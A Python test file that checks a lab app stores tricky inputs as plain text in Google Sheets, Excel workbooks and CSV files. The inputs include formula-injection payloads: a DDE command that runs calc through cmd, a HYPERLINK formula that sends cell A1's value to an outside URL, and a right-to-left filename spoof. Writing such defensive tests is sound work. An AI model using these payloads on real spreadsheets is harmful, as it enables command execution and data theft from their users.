"""Texts that spreadsheets like to make something else of: each stays the text it is, in every kind of sheet."""

from pathlib import Path

import pytest
from lxml import etree
from openpyxl import Workbook

from app.adapters.sheets.workbook import WorkbookSheet
from app.domain.settings import SheetSettings
from app.domain.sheet import CellWrite, SlideSheet
from app.domain.spreadsheet_text import plain_cell
from tests.adapters.sheets.google_lab import HEADER, RULES, GoogleLab, google_lab
from tests.adapters.sheets.workbooks import SHEET_PART, parts
from tests.fakes.sheets_server import SheetsServer

BARCODE = "620995"
TEXTS = {
    "a formula": "=1+1",
    "a link": '=HYPERLINK("http://example.org/?"&A1, "click")',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a sum": "+1+1",
    "a formula behind spaces": "  =1+1",
    "leading zeros": "000123",
    "a number with an exponent": "12E5",
    "more than a number can be": "1e999",
    "a day": "2026-03-01",
    "right to left": "שקופית 12 – شريحة",
    "a turned order": "\u202egnp.exe",
    "an emoji and two letters in one": "🔬 e\u0301",
    "a cell that is full": "x" * 32_767,
}


@pytest.fixture(params=TEXTS.values(), ids=TEXTS.keys())
def text(request: pytest.FixtureRequest) -> str:
    chosen: str = request.param
    return chosen


def message(text: str) -> CellWrite:
    return CellWrite(BARCODE, "Message", text, 1)


def shown(sheet: SlideSheet, barcode: str = BARCODE, header: str = "Message") -> str:
    (row,) = sheet.rows_for(barcode)
    return row.cells[header]


def slides(*more: list[str]) -> list[list[str]]:
    return [[BARCODE, "Prec01", "P1", ""], *more]


def stored(lab: GoogleLab, header: str) -> object:
    tab = lab.book.tabs[0]
    at = next(column for column in range(tab.columns) if tab[1, column].value == header)
    cell = tab[2, at]
    assert not cell.is_formula
    return cell.value


def test_in_google_it_is_written_as_text(server: SheetsServer, text: str) -> None:
    with google_lab(server, slides()) as lab, lab.gateway() as gateway:
        assert gateway.write([message(text)]).written == (message(text),)
        assert stored(lab, "Message") == plain_cell(text)
        assert shown(gateway.read()) == plain_cell(text)


def test_in_google_it_is_read_as_text(server: SheetsServer, text: str) -> None:
    """In the scientists' own cells, where it was stored as a text: barcodes too."""
    with google_lab(server, slides([text.strip(), "Prec01", "P1", text])) as lab, lab.gateway() as gateway:
        assert shown(gateway.read(), text.strip(), "Notes") == text
        result = gateway.write([CellWrite(text.strip(), "Status", "Complete", 1)])
        assert [each.column for each in result.written] == ["Status"]
        assert lab.column("Status") == {BARCODE: "", text.strip(): "Complete"}


def test_google_takes_fifty_thousand_characters_and_no_more(server: SheetsServer) -> None:
    most, more = "x" * 50_000, "=" + "x" * 49_999
    with google_lab(server, slides(["7", "Prec01", "P1", ""])) as lab, lab.gateway() as gateway:
        too_long = CellWrite("7", "Message", more, 1)
        result = gateway.write([message(most), too_long, CellWrite("7", "Status", "Complete", 1)])
        assert [(each.write, each.reason) for each in result.refused] == [
            (too_long, "the text has 50001 characters, a cell takes 50000")
        ]
        assert {each.column for each in result.written} == {"Message", "Status"}
        assert lab.column("Message") == {BARCODE: most, "7": ""}
        assert lab.column("Status") == {BARCODE: "", "7": "Complete"}


def workbook(path: Path, *rows: list[str]) -> Path:
    book = Workbook()
    sheet = book.active
    for number, row in enumerate([RULES, HEADER, *slides(*rows)], start=1):
        for column, text in enumerate(row, start=1):
            sheet.cell(number, column, text).data_type = "s"
    book.save(path)
    return path


def test_in_a_workbook_it_is_written_as_text(tmp_path: Path, text: str) -> None:
    path = workbook(tmp_path / "slides.xlsx")
    gateway = WorkbookSheet(path, SheetSettings())
    assert gateway.write([message(text)]).written == (message(text),)
    cell = etree.fromstring(parts(path)[SHEET_PART]).find(".//{*}c[@r='E3']")
    assert cell.get("t") == "inlineStr"
    assert cell.find("{*}f") is None
    assert shown(gateway.read()) == text


def test_in_a_workbook_it_is_read_as_text(tmp_path: Path, text: str) -> None:
    path = workbook(tmp_path / "slides.xlsx", [text.strip(), "Prec01", "P1", text])
    assert shown(WorkbookSheet(path, SheetSettings()).read(), text.strip(), "Notes") == text


def test_a_workbook_says_what_a_cell_takes(tmp_path: Path) -> None:
    path = workbook(tmp_path / "slides.xlsx")
    result = WorkbookSheet(path, SheetSettings()).write([message("x" * 50_000), CellWrite(BARCODE, "Status", "ok", 1)])
    assert [each.reason for each in result.refused] == ["the text has 50000 characters, a cell takes 32767"]
    assert [each.column for each in result.written] == ["Status"]


def test_in_a_text_file_no_program_takes_it_for_a_formula(tmp_path: Path, text: str) -> None:
    path = tmp_path / "slides.csv"
    path.write_text("Barcode,Study,Message\n620995,Prec01,\n", encoding="utf-8", newline="")
    gateway = WorkbookSheet(path, SheetSettings())
    assert gateway.write([message(text)]).written == (message(text),)
    assert shown(gateway.read()) == plain_cell(text)
